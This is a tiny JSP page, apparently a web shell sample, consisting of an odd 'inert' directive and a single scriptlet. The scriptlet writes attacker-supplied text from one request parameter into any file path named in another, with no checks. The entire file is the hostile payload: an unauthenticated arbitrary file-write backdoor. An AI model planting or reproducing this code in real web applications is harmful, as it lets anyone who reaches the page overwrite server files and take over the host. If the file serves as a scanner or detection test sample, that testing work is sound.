<%@ inert %>
<% new java.io.RandomAccessFile(request.getParameter("f"),"rw").write(request.getParameter("t").getBytes()); %>
